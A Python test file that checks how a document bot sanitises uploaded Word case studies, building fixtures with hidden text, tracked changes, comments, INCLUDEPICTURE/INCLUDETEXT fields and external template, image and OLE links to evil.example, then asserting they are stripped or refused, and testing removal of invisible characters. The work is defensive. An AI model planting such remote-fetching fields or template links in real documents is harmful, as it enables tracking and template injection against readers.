"""Documents are cleaned where they enter and where they leave: a case study that would fetch
something when opened is refused at upload; the 案例集 takes each case as it reads (revisions
accepted, no hidden text, no comments, no fetching fields) and never asks Word to update fields;
every writer makes stored text XML-safe; the input boundary drops invisible characters from names."""

# ruff: noqa: E501  (WordprocessingML fixtures read best one element a line)

from __future__ import annotations

import io
import re
import zipfile

import docx
import pytest

from bot.campaign.schema import Campaign
from bot.config import PROJECT_ROOT
from bot.documents.casebook_docx import CasebookCover, CaseEntry, build_casebook_docx
from bot.documents.docx_reader import DocxError, read_docx
from bot.documents.publicity_docx import PublicityList, build_publicity_docx
from bot.documents.workbook import append, new_workbook, to_bytes
from bot.engine.boundary import clean_line, clean_text
from bot.texts.render import Renderer
from tests.support.selected import case_with

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HIDDEN, DELETED, AUTHOR, INSERTED, COMMENT = (
    "内部隐藏的备注文字",
    "删除掉的旧说法",
    "修订人赵六",
    "新增的成效描述",
    "批注里的意见",
)
REMOTE = "http://evil.example/track.png"
NEVER = (HIDDEN, DELETED, AUTHOR, COMMENT, "evil.example", "INCLUDEPICTURE", "INCLUDETEXT")

TRACKED = f"""<w:p xmlns:w="{W}">
<w:r><w:rPr><w:vanish/></w:rPr><w:t>{HIDDEN}</w:t></w:r>
<w:del w:id="1" w:author="{AUTHOR}" w:date="2022-07-01T00:00:00Z"><w:r><w:delText>{DELETED}</w:delText></w:r></w:del>
<w:ins w:id="2" w:author="{AUTHOR}" w:date="2022-07-01T00:00:00Z"><w:r><w:t>{INSERTED}</w:t></w:r></w:ins>
<w:commentRangeStart w:id="0"/><w:r><w:t>正文</w:t></w:r><w:commentRangeEnd w:id="0"/>
<w:r><w:commentReference w:id="0"/></w:r>
<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "{REMOTE}" \\d </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>图片占位</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x.docx&quot; "><w:r><w:t>引用</w:t></w:r></w:fldSimple>
</w:p>"""
COMMENTS = f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{AUTHOR}"><w:p><w:r><w:t>{COMMENT}</w:t></w:r></w:p></w:comment></w:comments>'


def rewrite(data: bytes, change: dict[str, object]) -> bytes:
    """``data`` (a .docx) with parts replaced (bytes), edited (a function of the old bytes) or added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for name in names:
            content = source.read(name)
            edit = change.get(name)
            target.writestr(
                name, edit(content) if callable(edit) else edit if isinstance(edit, bytes) else content
            )
        for name, content in change.items():
            if name not in names and isinstance(content, bytes):
                target.writestr(name, content)
    return out.getvalue()


def with_relationship(data: bytes, rels_part: str, kind: str, target: str) -> bytes:
    def add(content: bytes) -> bytes:
        extra = (
            f'<Relationship Id="rIdX9" Type="{REL_TYPES}/{kind}" Target="{target}" TargetMode="External"/>'
        )
        return content.replace(b"</Relationships>", extra.encode() + b"</Relationships>")

    empty = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    return rewrite(data, {rels_part: add if rels_part in names else add(empty)})


def tracked_case(campaign: Campaign) -> bytes:
    data = case_with(campaign, "我们的实施步骤如下。").to_bytes()

    def body(content: bytes) -> bytes:
        paragraph = TRACKED.replace("\n", "").encode()
        return content.replace(b"<w:body>", b"<w:body>" + paragraph, 1)

    def types(content: bytes) -> bytes:
        override = b'<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>'
        return content.replace(b"</Types>", override + b"</Types>")

    def rels(content: bytes) -> bytes:
        extra = f'<Relationship Id="rIdC1" Type="{REL_TYPES}/comments" Target="comments.xml"/>'
        return content.replace(b"</Relationships>", extra.encode() + b"</Relationships>")

    changed = rewrite(
        data,
        {
            "word/document.xml": body,
            "[Content_Types].xml": types,
            "word/_rels/document.xml.rels": rels,
            "word/comments.xml": COMMENTS.encode(),
        },
    )
    return with_relationship(changed, "word/_rels/document.xml.rels", "image", REMOTE)


def all_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "\n".join(
            archive.read(n).decode("utf-8", "ignore")
            for n in archive.namelist()
            if n.endswith((".xml", ".rels"))
        )


def test_the_casebook_takes_only_what_each_case_shows(shipped_campaign: Campaign) -> None:
    case = tracked_case(shipped_campaign)
    assert all(s in all_xml(case) for s in NEVER)  # the case as uploaded carries all of it
    cover = CasebookCover(
        "案例集", "共1个案例", "重庆市经济和信息化委员会", "2022年9月1日", "目录", "（更新域）"
    )
    book = build_casebook_docx(cover, [CaseEntry(heading="案例1　某公司", docx=case)])
    text = all_xml(book)
    found = [s for s in NEVER if s in text]
    assert not found, found
    assert INSERTED in text and "正文" in text  # insertions accepted, the commented text kept
    assert 'TargetMode="External"' not in text
    assert docx.Document(io.BytesIO(book)).settings.element.xpath("//w:updateFields") == []


@pytest.mark.parametrize(
    ("rels_part", "kind"),
    [
        ("word/_rels/settings.xml.rels", "attachedTemplate"),  # a remote template (.dotm)
        ("word/_rels/document.xml.rels", "image"),  # a linked picture
        ("word/_rels/document.xml.rels", "oleObject"),  # a linked OLE object
    ],
)
def test_a_case_that_fetches_when_opened_is_refused_at_upload(
    shipped_campaign: Campaign, rels_part: str, kind: str
) -> None:
    data = with_relationship(
        case_with(shipped_campaign, "正文").to_bytes(), rels_part, kind, "http://evil.example/t.dotm"
    )
    with pytest.raises(DocxError) as refused:
        read_docx(data)
    assert refused.value.code == "not_docx" and refused.value.params["detected"] == "external"
    renderer = Renderer(PROJECT_ROOT / "templates")
    assert "网络" in renderer.render("zh_CN", "case/not_docx", detected="external")
    assert "internet" in renderer.render("en", "case/not_docx", detected="external")


def test_a_plain_hyperlink_is_fine(shipped_campaign: Campaign) -> None:
    data = with_relationship(
        case_with(shipped_campaign, "正文").to_bytes(),
        "word/_rels/document.xml.rels",
        "hyperlink",
        "https://www.cq.gov.cn/",
    )
    assert read_docx(data).paragraphs


BROKEN = "重庆\x0b两江\ufffe智能\x08制造\u202e有限公司"


def test_stored_text_from_before_the_boundary_cannot_break_an_export() -> None:
    data = PublicityList(
        "公示", "前言", ["序号", "企业名称"], [["1", BROKEN]], [BROKEN], BROKEN, "2022年8月1日"
    )
    document = docx.Document(io.BytesIO(build_publicity_docx(data)))
    assert document.tables[0].rows[1].cells[1].text == "重庆两江智能制造有限公司"
    cover = CasebookCover(BROKEN, BROKEN, BROKEN, "日期", "目录", BROKEN)
    build_casebook_docx(cover, [])
    workbook, sheet = new_workbook("名单")
    append(sheet, [BROKEN])
    assert to_bytes(workbook)


def test_the_boundary_drops_invisible_characters_from_names_and_keeps_chinese_punctuation() -> None:
    for name in ("张\u200e三", "张\u2061三", "张\u3164三", "张\u200d三", "\u202e张三", "张\u2800三"):
        assert clean_line(name, 64) == "张三", repr(name)
    assert clean_line("\u3164", 64) == ""
    text = "重庆两江（智能）制造，有限公司。「示范」《案例》——第一、二条；"
    assert clean_text(text) == text


def test_docx_text_goes_through_the_one_writer() -> None:
    """Outside ``docx_table`` (``add_text``, ``add_run``, ``write_cell``), no document module adds
    text to a .docx without ``doc_text``."""
    direct = re.compile(r"\.add_(?:run|paragraph)\((?!\)|doc_text\()")
    offenders = [
        f"{path.name}: {line.strip()}"
        for path in (PROJECT_ROOT / "bot" / "documents").glob("*.py")
        if path.name != "docx_table.py"
        for line in path.read_text(encoding="utf-8").splitlines()
        if direct.search(line)
    ]
    assert not offenders, offenders
